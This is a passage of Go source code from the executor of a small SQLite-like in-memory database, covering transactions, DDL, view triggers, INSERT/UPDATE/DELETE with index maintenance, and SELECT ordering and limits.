func (ex *executor) invalidateInCache() {
	ex.inCache = nil
	ex.correlated = nil
}

// valueKey builds a hash key consistent with compare()'s equality:
// numerics collapse to their float value, other types are tag-prefixed.
func valueKey(v Value) string {
	switch x := v.(type) {
	case nil:
		return "n"
	case int64:
		return "f" + strconv.FormatFloat(float64(x), 'g', -1, 64)
	case float64:
		return "f" + strconv.FormatFloat(x, 'g', -1, 64)
	case string:
		return "s" + x
	case []byte:
		return "b" + string(x)
	}
	return "x" + fmt.Sprint(v)
}

// execStmt dispatches a single statement. sc carries trigger NEW/OLD
// bindings when executing trigger bodies, else nil.
func (ex *executor) execStmt(s Stmt, sc *scope) (Result, error) {
	switch st := s.(type) {
	case *CreateTableStmt:
		return Result{}, ex.createTable(st)
	case *CreateViewStmt:
		return Result{}, ex.createView(st)
	case *CreateTriggerStmt:
		return Result{}, ex.createTrigger(st)
	case *CreateIndexStmt:
		return Result{}, ex.createIndex(st)
	case *ExplainStmt:
		rows, err := ex.execExplain(st)
		if err != nil {
			return Result{}, err
		}
		return Result{RowsAffected: int64(len(rows.Data))}, nil
	case *DropStmt:
		return Result{}, ex.drop(st)
	case *TxnStmt:
		return Result{}, ex.execTxn(st)
	case *InsertStmt:
		return ex.execInsert(st, sc)
	case *UpdateStmt:
		return ex.execUpdate(st, sc)
	case *DeleteStmt:
		return ex.execDelete(st, sc)
	case *SelectStmt:
		rows, err := ex.execSelect(st, sc)
		if err != nil {
			return Result{}, err
		}
		return Result{RowsAffected: int64(len(rows.Data))}, nil
	}
	return Result{}, fmt.Errorf("sqldb: unsupported statement %T", s)
}

// txnSnapshot captures everything a ROLLBACK must restore.
type txnSnapshot struct {
	tables   map[string]*table
	views    map[string]*view
	triggers map[string][]*trigger
	byName   map[string]*trigger
	lastID   int64
}

// execTxn implements BEGIN/COMMIT/ROLLBACK with full-database
// snapshot semantics (SQLite's single-writer transactions; the engine
// already serializes writers on db.mu).
func (ex *executor) execTxn(st *TxnStmt) error {
	db := ex.db
	switch st.Kind {
	case "BEGIN":
		if db.txn != nil {
			return fmt.Errorf("sqldb: cannot start a transaction within a transaction")
		}
		snap := &txnSnapshot{
			tables:   make(map[string]*table, len(db.tables)),
			views:    make(map[string]*view, len(db.views)),
			triggers: make(map[string][]*trigger, len(db.triggers)),
			byName:   make(map[string]*trigger, len(db.byName)),
			lastID:   db.lastID.Load(),
		}
		for k, t := range db.tables {
			snap.tables[k] = t.clone()
		}
		for k, v := range db.views {
			snap.views[k] = v
		}
		for k, trs := range db.triggers {
			snap.triggers[k] = append([]*trigger{}, trs...)
		}
		for k, tr := range db.byName {
			snap.byName[k] = tr
		}
		db.txn = snap
		return nil
	case "COMMIT":
		if db.txn == nil {
			return fmt.Errorf("sqldb: cannot commit - no transaction is active")
		}
		if err := fault.Hit(faultCommit); err != nil {
			// A failed commit must not leave half-applied state: restore
			// the BEGIN snapshot, as SQLite rolls back when the commit
			// itself hits an I/O error.
			ex.restoreSnapshot()
			return fmt.Errorf("sqldb: commit failed: %w", err)
		}
		db.txn = nil
		return nil
	case "ROLLBACK":
		if db.txn == nil {
			return fmt.Errorf("sqldb: cannot rollback - no transaction is active")
		}
		ex.restoreSnapshot()
		return nil
	}
	return fmt.Errorf("sqldb: unknown transaction statement %s", st.Kind)
}

// restoreSnapshot rolls the database back to the active transaction's
// BEGIN snapshot and ends the transaction. The caller has checked that
// db.txn is non-nil; shared by ROLLBACK and failed COMMIT.
func (ex *executor) restoreSnapshot() {
	db := ex.db
	snap := db.txn
	db.txn = nil
	db.tables = snap.tables
	db.views = snap.views
	db.triggers = snap.triggers
	db.byName = snap.byName
	db.lastID.Store(snap.lastID)
	db.resetPlanCaches()
	db.invalidateLockPlans()
	ex.invalidateInCache()
}

func (ex *executor) createTable(st *CreateTableStmt) error {
	key := strings.ToLower(st.Name)
	if _, ok := ex.db.tables[key]; ok {
		if st.IfNotExists {
			return nil
		}
		return fmt.Errorf("sqldb: table %s already exists", st.Name)
	}
	if _, ok := ex.db.views[key]; ok {
		return fmt.Errorf("sqldb: view %s already exists", st.Name)
	}
	pk := -1
	for i, c := range st.Cols {
		if c.PrimaryKey {
			if pk >= 0 {
				return fmt.Errorf("sqldb: multiple primary keys in %s", st.Name)
			}
			pk = i
		}
	}
	ex.db.tables[key] = &table{
		name:   st.Name,
		cols:   st.Cols,
		pk:     pk,
		byPK:   make(map[int64]int),
		nextID: 1,
	}
	ex.db.resetPlanCaches()
	ex.db.invalidateLockPlans()
	return nil
}

func (ex *executor) createView(st *CreateViewStmt) error {
	key := strings.ToLower(st.Name)
	if _, ok := ex.db.views[key]; ok {
		if st.IfNotExists {
			return nil
		}
		return fmt.Errorf("sqldb: view %s already exists", st.Name)
	}
	if _, ok := ex.db.tables[key]; ok {
		return fmt.Errorf("sqldb: table %s already exists", st.Name)
	}
	cols, err := ex.selectColumns(st.Select)
	if err != nil {
		return err
	}
	ex.db.views[key] = &view{name: st.Name, def: st.Select, cols: cols}
	ex.db.resetPlanCaches()
	ex.db.invalidateLockPlans()
	return nil
}

// selectColumns computes the output column names of a select without
// running it (used at view creation).
func (ex *executor) selectColumns(sel *SelectStmt) ([]string, error) {
	core := sel.Cores[0]
	var out []string
	for _, rc := range core.Cols {
		switch {
		case rc.Star:
			bindings, err := ex.fromBindings(core)
			if err != nil {
				return nil, err
			}
			for _, b := range bindings {
				out = append(out, b.name)
			}
		case rc.TableStar != "":
			bindings, err := ex.fromBindings(core)
			if err != nil {
				return nil, err
			}
			for _, b := range bindings {
				if strings.EqualFold(b.qual, rc.TableStar) {
					out = append(out, b.name)
				}
			}
		default:
			out = append(out, exprName(rc))
		}
	}
	return out, nil
}

// fromBindings returns the column bindings a core's FROM clause exposes.
func (ex *executor) fromBindings(core *SelectCore) ([]colBinding, error) {
	if core.From == nil {
		return nil, nil
	}
	bindings, err := ex.refBindings(*core.From)
	if err != nil {
		return nil, err
	}
	for _, j := range core.Joins {
		more, err := ex.refBindings(j.Ref)
		if err != nil {
			return nil, err
		}
		bindings = append(bindings, more...)
	}
	return bindings, nil
}

func (ex *executor) refBindings(ref TableRef) ([]colBinding, error) {
	qual := ref.Alias
	if ref.Sub != nil {
		cols, err := ex.selectColumns(ref.Sub)
		if err != nil {
			return nil, err
		}
		out := make([]colBinding, len(cols))
		for i, c := range cols {
			out[i] = colBinding{qual: qual, name: c}
		}
		return out, nil
	}
	if qual == "" {
		qual = ref.Name
	}
	key := strings.ToLower(ref.Name)
	if t, ok := ex.db.tables[key]; ok {
		out := make([]colBinding, len(t.cols))
		for i, c := range t.cols {
			out[i] = colBinding{qual: qual, name: c.Name}
		}
		return out, nil
	}
	if v, ok := ex.db.views[key]; ok {
		out := make([]colBinding, len(v.cols))
		for i, c := range v.cols {
			out[i] = colBinding{qual: qual, name: c}
		}
		return out, nil
	}
	return nil, fmt.Errorf("sqldb: no such table: %s", ref.Name)
}

// exprName derives an output column name from a result column.
func exprName(rc ResultCol) string {
	if rc.Alias != "" {
		return rc.Alias
	}
	switch e := rc.Expr.(type) {
	case *ColRef:
		return e.Col
	case *Call:
		return strings.ToLower(e.Name)
	}
	return "expr"
}

func (ex *executor) createTrigger(st *CreateTriggerStmt) error {
	key := strings.ToLower(st.Name)
	if _, ok := ex.db.byName[key]; ok {
		if st.IfNotExists {
			return nil
		}
		return fmt.Errorf("sqldb: trigger %s already exists", st.Name)
	}
	viewKey := strings.ToLower(st.View)
	if _, ok := ex.db.views[viewKey]; !ok {
		return fmt.Errorf("sqldb: INSTEAD OF trigger requires a view, %s is not one", st.View)
	}
	tr := &trigger{name: st.Name, event: st.Event, view: st.View, body: st.Body}
	ex.db.byName[key] = tr
	ex.db.triggers[viewKey] = append(ex.db.triggers[viewKey], tr)
	// A new INSTEAD OF trigger changes which tables writes to the view
	// reach, so memoized lock plans are stale.
	ex.db.invalidateLockPlans()
	return nil
}

func (ex *executor) drop(st *DropStmt) error {
	key := strings.ToLower(st.Name)
	ex.db.resetPlanCaches()
	ex.db.invalidateLockPlans()
	switch st.Kind {
	case "TABLE":
		if _, ok := ex.db.tables[key]; !ok {
			if st.IfExists {
				return nil
			}
			return fmt.Errorf("sqldb: no such table: %s", st.Name)
		}
		delete(ex.db.tables, key)
	case "VIEW":
		if _, ok := ex.db.views[key]; !ok {
			if st.IfExists {
				return nil
			}
			return fmt.Errorf("sqldb: no such view: %s", st.Name)
		}
		delete(ex.db.views, key)
		for _, tr := range ex.db.triggers[key] {
			delete(ex.db.byName, strings.ToLower(tr.name))
		}
		delete(ex.db.triggers, key)
	case "INDEX":
		return ex.dropIndex(st)
	case "TRIGGER":
		tr, ok := ex.db.byName[key]
		if !ok {
			if st.IfExists {
				return nil
			}
			return fmt.Errorf("sqldb: no such trigger: %s", st.Name)
		}
		delete(ex.db.byName, key)
		viewKey := strings.ToLower(tr.view)
		list := ex.db.triggers[viewKey]
		for i := range list {
			if list[i] == tr {
				ex.db.triggers[viewKey] = append(list[:i], list[i+1:]...)
				break
			}
		}
	}
	return nil
}

// --- INSERT / UPDATE / DELETE ---

func (ex *executor) execInsert(st *InsertStmt, sc *scope) (Result, error) {
	key := strings.ToLower(st.Table)
	if t, ok := ex.db.tables[key]; ok {
		return ex.insertTable(t, st, sc)
	}
	if v, ok := ex.db.views[key]; ok {
		return ex.insertView(v, st, sc)
	}
	return Result{}, fmt.Errorf("sqldb: no such table: %s", st.Table)
}

// insertRows materializes the value rows of an INSERT.
func (ex *executor) insertRows(st *InsertStmt, sc *scope) ([][]Value, error) {
	if st.Select != nil {
		rows, err := ex.execSelect(st.Select, sc)
		if err != nil {
			return nil, err
		}
		return rows.Data, nil
	}
	out := make([][]Value, 0, len(st.Rows))
	for _, exprRow := range st.Rows {
		// Arena-backed: insertTable copies these values into the stored
		// row, so the materialized expression rows die with the statement.
		row := ex.values(len(exprRow))
		for i, e := range exprRow {
			v, err := ex.eval(e, sc, nil)
			if err != nil {
				return nil, err
			}
			row[i] = v
		}
		out = append(out, row)
	}
	return out, nil
}

func (ex *executor) insertTable(t *table, st *InsertStmt, sc *scope) (Result, error) {
	valueRows, err := ex.insertRows(st, sc)
	if err != nil {
		return Result{}, err
	}
	cols := st.Cols
	if len(cols) == 0 {
		cols = make([]string, len(t.cols))
		for i, c := range t.cols {
			cols[i] = c.Name
		}
	}
	colIdx := ex.intsBuf(len(cols))
	for i, c := range cols {
		idx := t.colIndex(c)
		if idx < 0 {
			return Result{}, fmt.Errorf("sqldb: table %s has no column %s", t.name, c)
		}
		colIdx[i] = idx
	}
	var affected int64
	for _, vr := range valueRows {
		if len(vr) != len(cols) {
			return Result{}, fmt.Errorf("sqldb: %d values for %d columns", len(vr), len(cols))
		}
		// The maintenance fault fires before this row touches the table,
		// so rows already inserted stay consistent with their indexes.
		if err := t.indexMaintHit(); err != nil {
			return Result{}, err
		}
		// row is stored in the table, so it must be heap-allocated;
		// provided is statement-scoped bookkeeping.
		row := make([]Value, len(t.cols))
		provided := ex.boolsBuf(len(t.cols))
		for i, idx := range colIdx {
			row[idx] = normalize(vr[i])
			provided[idx] = true
		}
		// Defaults for unprovided columns.
		for i, c := range t.cols {
			if provided[i] || c.Default == nil {
				continue
			}
			v, err := ex.eval(c.Default, nil, nil)
			if err != nil {
				return Result{}, err
			}
			row[i] = v
		}
		// Primary key assignment.
		if t.pk >= 0 {
			if row[t.pk] == nil {
				row[t.pk] = t.nextID
			}
			id, ok := AsInt(row[t.pk])
			if !ok {
				return Result{}, fmt.Errorf("sqldb: non-integer primary key in %s", t.name)
			}
			row[t.pk] = id
			if id >= t.nextID {
				t.nextID = id + 1
			}
			if existing, ok := t.byPK[id]; ok {
				if !st.OrReplace {
					return Result{}, fmt.Errorf("sqldb: UNIQUE constraint failed: %s.%s", t.name, t.cols[t.pk].Name)
				}
				t.indexRemove(existing, t.rows[existing])
				t.rows[existing] = row
				t.indexInsert(existing, row)
				ex.db.lastID.Store(id)
				affected++
				continue
			}
			t.byPK[id] = len(t.rows)
			ex.db.lastID.Store(id)
		}
		// NOT NULL enforcement.
		for i, c := range t.cols {
			if c.NotNull && row[i] == nil {
				return Result{}, fmt.Errorf("sqldb: NOT NULL constraint failed: %s.%s", t.name, c.Name)
			}
		}
		t.rows = append(t.rows, row)
		t.indexInsert(len(t.rows)-1, row)
		affected++
	}
	ex.invalidateInCache()
	return Result{LastInsertID: ex.db.lastID.Load(), RowsAffected: affected}, nil
}

// insertView fires INSTEAD OF INSERT triggers with NEW bound per row.
func (ex *executor) insertView(v *view, st *InsertStmt, sc *scope) (Result, error) {
	trs := ex.triggersFor(v.name, "INSERT")
	if len(trs) == 0 {
		return Result{}, fmt.Errorf("sqldb: cannot modify view %s: no INSTEAD OF INSERT trigger", v.name)
	}
	valueRows, err := ex.insertRows(st, sc)
	if err != nil {
		return Result{}, err
	}
	cols := st.Cols
	if len(cols) == 0 {
		cols = v.cols
	}
	var affected int64
	for _, vr := range valueRows {
		if len(vr) != len(cols) {
			return Result{}, fmt.Errorf("sqldb: %d values for %d columns", len(vr), len(cols))
		}
		newRow := make([]Value, len(v.cols))
		for i, c := range cols {
			idx := indexOfFold(v.cols, c)
			if idx < 0 {
				return Result{}, fmt.Errorf("sqldb: view %s has no column %s", v.name, c)
			}
			newRow[idx] = normalize(vr[i])
		}
		if err := ex.fireTriggers(trs, v, newRow, nil, sc); err != nil {
			return Result{}, err
		}
		affected++
	}
	return Result{LastInsertID: ex.db.lastID.Load(), RowsAffected: affected}, nil
}

func indexOfFold(list []string, s string) int {
	for i, x := range list {
		if strings.EqualFold(x, s) {
			return i
		}
	}
	return -1
}

func (ex *executor) triggersFor(viewName, event string) []*trigger {
	var out []*trigger
	for _, tr := range ex.db.triggers[strings.ToLower(viewName)] {
		if tr.event == event {
			out = append(out, tr)
		}
	}
	return out
}

// fireTriggers runs trigger bodies with NEW/OLD row bindings.
func (ex *executor) fireTriggers(trs []*trigger, v *view, newRow, oldRow []Value, sc *scope) error {
	n := 0
	if newRow != nil {
		n += len(v.cols)
	}
	if oldRow != nil {
		n += len(v.cols)
	}
	bindings := ex.colBindings(n)[:0]
	row := ex.values(n)[:0]
	if newRow != nil {
		for i, c := range v.cols {
			bindings = append(bindings, colBinding{qual: "new", name: c})
			row = append(row, newRow[i])
		}
	}
	if oldRow != nil {
		for i, c := range v.cols {
			bindings = append(bindings, colBinding{qual: "old", name: c})
			row = append(row, oldRow[i])
		}
	}
	trigScope := ex.newScope(sc, bindings, row)
	for _, tr := range trs {
		for _, s := range tr.body {
			if _, err := ex.execStmt(s, trigScope); err != nil {
				return err
			}
		}
	}
	return nil
}

func (ex *executor) execUpdate(st *UpdateStmt, sc *scope) (Result, error) {
	key := strings.ToLower(st.Table)
	if t, ok := ex.db.tables[key]; ok {
		return ex.updateTable(t, st, sc)
	}
	if v, ok := ex.db.views[key]; ok {
		return ex.updateView(v, st, sc)
	}
	return Result{}, fmt.Errorf("sqldb: no such table: %s", st.Table)
}

func (ex *executor) updateTable(t *table, st *UpdateStmt, sc *scope) (Result, error) {
	bindings := ex.colBindings(len(t.cols))
	for i, c := range t.cols {
		bindings[i] = colBinding{qual: t.name, name: c.Name}
	}
	setIdx := ex.intsBuf(len(st.Set))
	for i, a := range st.Set {
		idx := t.colIndex(a.Col)
		if idx < 0 {
			return Result{}, fmt.Errorf("sqldb: table %s has no column %s", t.name, a.Col)
		}
		setIdx[i] = idx
	}
	// changed marks the columns any SET clause can touch, so index
	// maintenance only re-keys indexes covering an assigned column.
	changed := ex.boolsBuf(len(t.cols))
	for _, idx := range setIdx {
		changed[idx] = true
	}
	var affected int64
	pkChanged := false
	maintain := len(t.indexes) > 0
	// Access-path layer: probe for candidate positions when an index
	// covers the WHERE; the full WHERE still runs on every candidate.
	ap := ex.chooseAccess(t, t.name, st.Where)
	ex.db.countAccess(ap.kind)
	var positions []int // nil = scan all rows
	if ap.kind != accessSeqScan {
		positions = ap.sortedPositions()
	}
	n := len(t.rows)
	if positions != nil {
		n = len(positions)
	}
	// One scope and one assignment buffer for the whole row loop: the
	// scope's row is rebound per candidate, and newVals is fully copied
	// into the row before the next iteration overwrites it.
	rowScope := ex.newScope(sc, bindings, nil)
	newVals := ex.values(len(st.Set))
	for ci := 0; ci < n; ci++ {
		pos := ci
		if positions != nil {
			pos = positions[ci]
		}
		row := t.rows[pos]
		rowScope.row = row
		if st.Where != nil {
			match, err := ex.eval(st.Where, rowScope, nil)
			if err != nil {
				return Result{}, err
			}
			if !truthy(match) {
				continue
			}
		}
		// Evaluate all assignments against the pre-update row.
		for i, a := range st.Set {
			v, err := ex.eval(a.Expr, rowScope, nil)
			if err != nil {
				return Result{}, err
			}
			newVals[i] = v
		}
		// Fault fires before this row mutates: already-updated rows and
		// their index entries stay consistent.
		if err := t.indexMaintHit(); err != nil {
			return Result{}, err
		}
		var oldRow []Value
		if maintain {
			oldRow = append([]Value(nil), row...)
		}
		for i, idx := range setIdx {
			if idx == t.pk {
				pkChanged = true
			}
			row[idx] = newVals[i]
		}
		if maintain {
			t.indexUpdate(pos, oldRow, row, changed)
		}
		affected++
	}
	if pkChanged {
		t.reindex()
	}
	ex.invalidateInCache()
	return Result{RowsAffected: affected}, nil
}

func (ex *executor) updateView(v *view, st *UpdateStmt, sc *scope) (Result, error) {
	trs := ex.triggersFor(v.name, "UPDATE")
	if len(trs) == 0 {
		return Result{}, fmt.Errorf("sqldb: cannot modify view %s: no INSTEAD OF UPDATE trigger", v.name)
	}
	rel, err := ex.viewRowsMatching(v, st.Where, sc)
	if err != nil {
		return Result{}, err
	}
	var affected int64
	rowScope := ex.newScope(sc, rel.cols, nil)
	for _, row := range rel.rows {
		rowScope.row = row
		oldRow := row
		newRow := make([]Value, len(row))
		copy(newRow, row)
		for _, a := range st.Set {
			idx := indexOfFold(v.cols, a.Col)
			if idx < 0 {
				return Result{}, fmt.Errorf("sqldb: view %s has no column %s", v.name, a.Col)
			}
			val, err := ex.eval(a.Expr, rowScope, nil)
			if err != nil {
				return Result{}, err
			}
			newRow[idx] = val
		}
		if err := ex.fireTriggers(trs, v, newRow, oldRow, sc); err != nil {
			return Result{}, err
		}
		affected++
	}
	return Result{RowsAffected: affected}, nil
}

func (ex *executor) execDelete(st *DeleteStmt, sc *scope) (Result, error) {
	key := strings.ToLower(st.Table)
	if t, ok := ex.db.tables[key]; ok {
		return ex.deleteTable(t, st, sc)
	}
	if v, ok := ex.db.views[key]; ok {
		return ex.deleteView(v, st, sc)
	}
	return Result{}, fmt.Errorf("sqldb: no such table: %s", st.Table)
}

func (ex *executor) deleteTable(t *table, st *DeleteStmt, sc *scope) (Result, error) {
	bindings := ex.colBindings(len(t.cols))
	for i, c := range t.cols {
		bindings[i] = colBinding{qual: t.name, name: c.Name}
	}
	// Access-path fast path: when a pk or secondary-index probe covers
	// part of the WHERE, evaluate the full WHERE only on the candidates
	// and swap-delete the matches. The last row swaps into each hole
	// (row order without ORDER BY is unspecified, as in SQLite), so
	// only one index entry moves per deletion. Deleting from the
	// highest position down keeps pending positions valid: every slot
	// filled by a swap came from beyond the remaining matches.
	ap := ex.chooseAccess(t, t.name, st.Where)
	ex.db.countAccess(ap.kind)
	if ap.kind != accessSeqScan {
		var matched []int
		rowScope := ex.newScope(sc, bindings, nil)
		for _, pos := range ap.sortedPositions() {
			if st.Where != nil {
				rowScope.row = t.rows[pos]
				match, err := ex.eval(st.Where, rowScope, nil)
				if err != nil {
					return Result{}, err
				}
				if !truthy(match) {
					continue
				}
			}
			matched = append(matched, pos)
		}
		if len(matched) == 0 {
			return Result{}, nil
		}
		if err := t.indexMaintHit(); err != nil {
			return Result{}, err
		}
		for i := len(matched) - 1; i >= 0; i-- {
			pos := matched[i]
			row := t.rows[pos]
			t.indexRemove(pos, row)
			if t.pk >= 0 {
				if id, ok := AsInt(row[t.pk]); ok {
					delete(t.byPK, id)
				}
			}
			last := len(t.rows) - 1
			if pos != last {
				moved := t.rows[last]
				t.indexMove(last, pos, moved)
				t.rows[pos] = moved
				if t.pk >= 0 {
					if movedID, ok := AsInt(moved[t.pk]); ok {
						t.byPK[movedID] = pos
					}
				}
			}
			t.rows = t.rows[:last]
		}
		ex.invalidateInCache()
		return Result{RowsAffected: int64(len(matched))}, nil
	}
	kept := t.rows[:0:0]
	var affected int64
	rowScope := &scope{parent: sc, cols: bindings}
	for _, row := range t.rows {
		if st.Where != nil {
			rowScope.row = row
			match, err := ex.eval(st.Where, rowScope, nil)
			if err != nil {
				return Result{}, err
			}
			if !truthy(match) {
				kept = append(kept, row)
				continue
			}
		}
		affected++
	}
	// The scan path commits in one step (row compaction + reindex), so a
	// fault here leaves the table untouched.
	if err := t.indexMaintHit(); err != nil {
		return Result{}, err
	}
	t.rows = kept
	t.reindex()
	ex.invalidateInCache()
	return Result{RowsAffected: affected}, nil
}

func (ex *executor) deleteView(v *view, st *DeleteStmt, sc *scope) (Result, error) {
	trs := ex.triggersFor(v.name, "DELETE")
	if len(trs) == 0 {
		return Result{}, fmt.Errorf("sqldb: cannot modify view %s: no INSTEAD OF DELETE trigger", v.name)
	}
	rel, err := ex.viewRowsMatching(v, st.Where, sc)
	if err != nil {
		return Result{}, err
	}
	var affected int64
	for _, row := range rel.rows {
		if err := ex.fireTriggers(trs, v, nil, row, sc); err != nil {
			return Result{}, err
		}
		affected++
	}
	return Result{RowsAffected: affected}, nil
}

// viewRowsMatching returns the view rows satisfying where, going through
// the planner so UNION ALL COW views get the WHERE pushed into their
// arms (and the pk fast path) instead of full materialization.
func (ex *executor) viewRowsMatching(v *view, where Expr, sc *scope) (relation, error) {
	key := synthKey{view: v, where: where}
	ex.db.planMu.Lock()
	sel, ok := ex.db.synthCache[key]
	if !ok {
		sel = &SelectStmt{Cores: []*SelectCore{{
			Cols:  []ResultCol{{Star: true}},
			From:  &TableRef{Name: v.name},
			Where: where,
		}}}
		if len(ex.db.synthCache) >= maxCachedStmts {
			ex.db.synthCache = make(map[synthKey]*SelectStmt)
		}
		ex.db.synthCache[key] = sel
	}
	ex.db.planMu.Unlock()
	rows, err := ex.execSelect(sel, sc)
	if err != nil {
		return relation{}, err
	}
	cols := ex.colBindings(len(v.cols))
	for i, c := range v.cols {
		cols[i] = colBinding{qual: v.name, name: c}
	}
	return relation{cols: cols, rows: rows.Data}, nil
}

// --- SELECT ---

// coreResult is a projected arm plus, when available, its aligned source
// rows so ORDER BY can reference non-projected FROM columns.
type coreResult struct {
	out     relation
	srcCols []colBinding // nil when alignment was lost (DISTINCT, agg)
	srcRows [][]Value    // aligned 1:1 with out.rows when srcCols != nil
}

// execSelect plans and executes a (possibly compound) select.
func (ex *executor) execSelect(sel *SelectStmt, sc *scope) (*Rows, error) {
	planned := ex.plan(sel)
	var out *Rows
	var srcCols []colBinding
	var srcRows [][]Value
	single := len(planned.Cores) == 1
	for _, core := range planned.Cores {
		cr, err := ex.execCore(core, sc)
		if err != nil {
			return nil, err
		}
		rel := cr.out
		if single {
			srcCols, srcRows = cr.srcCols, cr.srcRows
		}
		if out == nil {
			cols := make([]string, len(rel.cols))
			for i, b := range rel.cols {
				cols[i] = b.name
			}
			out = &Rows{Columns: cols, Data: rel.rows}
			continue
		}
		if len(rel.cols) != len(out.Columns) {
			return nil, fmt.Errorf("sqldb: SELECTs to the left and right of UNION ALL do not have the same number of result columns")
		}
		out.Data = append(out.Data, rel.rows...)
	}
	if out == nil {
		out = &Rows{}
	}
	if err := ex.orderAndLimit(planned, out, sc, srcCols, srcRows); err != nil {
		return nil, err
	}
	return out, nil
}

// orderAndLimit applies ORDER BY / LIMIT / OFFSET to a result set. For a
// single-core select, srcCols/srcRows allow ORDER BY terms to reference
// source columns that were not projected (SQLite permits this).
func (ex *executor) orderAndLimit(sel *SelectStmt, out *Rows, sc *scope, srcCols []colBinding, srcRows [][]Value) error {
	if len(sel.OrderBy) > 0 {
		bindings := ex.colBindings(len(out.Columns))
		for i, c := range out.Columns {
			bindings[i] = colBinding{name: c}
		}
		// Both scopes are rebound per row rather than reallocated.
		parent := sc
		var srcScope *scope
		if srcCols != nil {
			srcScope = ex.newScope(sc, srcCols, nil)
			parent = srcScope
		}
		rowScope := ex.newScope(parent, bindings, nil)
		keys := make([][]Value, len(out.Data))
		for ri, row := range out.Data {
			if srcScope != nil {
				srcScope.row = srcRows[ri]
			}
			rowScope.row = row
			key := make([]Value, len(sel.OrderBy))
			for ti, term := range sel.OrderBy {
				// Integer literal means output column index (1-based).
				if lit, ok := term.Expr.(*Lit); ok {
					if n, isInt := lit.Val.(int64); isInt && n >= 1 && int(n) <= len(row) {
						key[ti] = row[n-1]
						continue
					}
				}
				v, err := ex.eval(term.Expr, rowScope, nil)
				if err != nil {
					return err
				}
				key[ti] = v
			}
			keys[ri] = key
		}
		sortRowsByKeys(out.Data, keys, sel.OrderBy)
	}
	if sel.Limit != nil {
		limitV, err := ex.eval(sel.Limit, sc, nil)
		if err != nil {
			return err
		}
		limit, _ := AsInt(limitV)
		offset := int64(0)
		if sel.Offset != nil {
			offV, err := ex.eval(sel.Offset, sc, nil)
			if err != nil {
				return err
			}
			offset, _ = AsInt(offV)
		}
		if offset < 0 {
			offset = 0
		}
		if offset > int64(len(out.Data)) {
			offset = int64(len(out.Data))
		}
		end := int64(len(out.Data))
		if limit >= 0 && offset+limit < end {
			end = offset + limit
		}
		out.Data = out.Data[offset:end]
	}
	return nil
}

// sortRowsByKeys stably sorts rows by precomputed keys.
func sortRowsByKeys(rows [][]Value, keys [][]Value, terms []OrderTerm) {
	type pair struct {
		row []Value
		key []Value
	}
	pairs := make([]pair, len(rows))
	for i := range rows {
		pairs[i] = pair{rows[i], keys[i]}
	}
	stableSort(pairs, func(a, b pair) bool {
		for ti := range terms {
			c := compare(a.key[ti], b.key[ti])
			if c == 0 {
				continue
			}
			if terms[ti].Desc {
				return c > 0
			}
			return c < 0
		}
		return false
	})
	for i := range pairs {
		rows[i] = pairs[i].row
	}
}

// stableSort is insertion-sort-based merge sort; row counts here are
// small enough that a dependency-free stable sort is fine.
func stableSort[T any](s []T, less func(a, b T) bool) {
	if len(s) < 2 {
		return
	}
	mid := len(s) / 2
	left := make([]T, mid)
	right := make([]T, len(s)-mid)
	copy(left, s[:mid])
	copy(right, s[mid:])
	stableSort(left, less)
	stableSort(right, less)
	i, j, k := 0, 0, 0
	for i < len(left) && j < len(right) {
		if less(right[j], left[i]) {
			s[k] = right[j]
			j++
		} else {
			s[k] = left[i]
			i++
		}
		k++
	}
	for i < len(left) {
		s[k] = left[i]
		i++
		k++
	}
	for j < len(right) {
		s[k] = right[j]
		j++
		k++
	}
}

// execCore executes one arm of a compound select.
func (ex *executor) execCore(core *SelectCore, sc *scope) (coreResult, error) {
	src, err := ex.buildFrom(core, sc)
	if err != nil {
		return coreResult{}, err
	}
	// Validate WHERE and projection references even when the source is
	// empty, mirroring SQLite's prepare-time name resolution.
	if len(src.rows) == 0 {
		if err := ex.validateCore(core, src, sc); err != nil {
			return coreResult{}, err
		}
	}
	// WHERE
	if core.Where != nil {
		filtered := src.rows[:0:0]
		rowScope := ex.newScope(sc, src.cols, nil)
		for _, row := range src.rows {
			rowScope.row = row
			match, err := ex.eval(core.Where, rowScope, nil)
			if err != nil {
				return coreResult{}, err
			}
			if truthy(match) {
				filtered = append(filtered, row)
			}
		}
		src.rows = filtered
	}
	// Aggregation or plain projection.
	if core.GroupBy != nil || ex.hasAggregate(core.Cols) {
		rel, err := ex.execAggregate(core, src, sc)
		if err != nil {
			return coreResult{}, err
		}
		return coreResult{out: rel}, nil
	}
	out, err := ex.project(core, src, sc)
	if err != nil {
		return coreResult{}, err
	}
	if core.Distinct {
		out.rows = dedupeRows(out.rows)
		return coreResult{out: out}, nil
	}
	return coreResult{out: out, srcCols: src.cols, srcRows: src.rows}, nil
}

// validateCore checks name resolution of a core's expressions against an
// all-NULL row so that queries over empty tables still report unknown
// column errors.
func (ex *executor) validateCore(core *SelectCore, src relation, sc *scope) error {
	// Cached ASTs re-validate identically until DDL changes the catalog
	// (which resets the memo), so a successful check runs only once.
	ex.db.planMu.Lock()
	_, done := ex.db.validated[core]
	ex.db.planMu.Unlock()
	if done {
		return nil
	}
	nullRow := ex.values(len(src.cols))
	rowScope := ex.newScope(sc, src.cols, nullRow)
	if core.Where != nil {
		if _, err := ex.eval(core.Where, rowScope, nil); err != nil {
			return err
		}
	}
	if core.GroupBy != nil || ex.hasAggregate(core.Cols) {
		return nil // aggregate path evaluates against a null row anyway
	}
	exprsChecked, exprs, err := ex.expandCols(core, src)
	if err != nil {
		return err
	}
	_ = exprsChecked
	for _, e := range exprs {
		if _, err := ex.eval(e, rowScope, nil); err != nil {
			return err
		}
	}
	ex.db.planMu.Lock()
	ex.db.validated[core] = struct{}{}
	ex.db.planMu.Unlock()
	return nil
}

func dedupeRows(rows [][]Value) [][]Value {
	seen := make(map[string]bool, len(rows))
	out := rows[:0:0]
	for _, row := range rows {
		var b strings.Builder
		for _, v := range row {
			b.WriteString(fmt.Sprintf("%T|%v|", v, v))
		}
		k := b.String()
		if !seen[k] {
			seen[k] = true
			out = append(out, row)
		}
	}
	return out
}

// pkEquality extracts a "pk = constant" restriction from a WHERE tree
// (searching top-level AND conjuncts) for a base table reference. It
// returns the constant value and true on success.
func (ex *executor) pkEquality(t *table, alias string, where Expr) (int64, bool) {
	if t.pk < 0 || where == nil {
		return 0, false
	}
	switch x := where.(type) {
	case *Binary:
		if x.Op == "AND" {
			if id, ok := ex.pkEquality(t, alias, x.L); ok {
				return id, true
			}
			return ex.pkEquality(t, alias, x.R)
		}
		if x.Op != "=" {
			return 0, false
		}
		for _, pair := range [][2]Expr{{x.L, x.R}, {x.R, x.L}} {
			ref, ok := pair[0].(*ColRef)
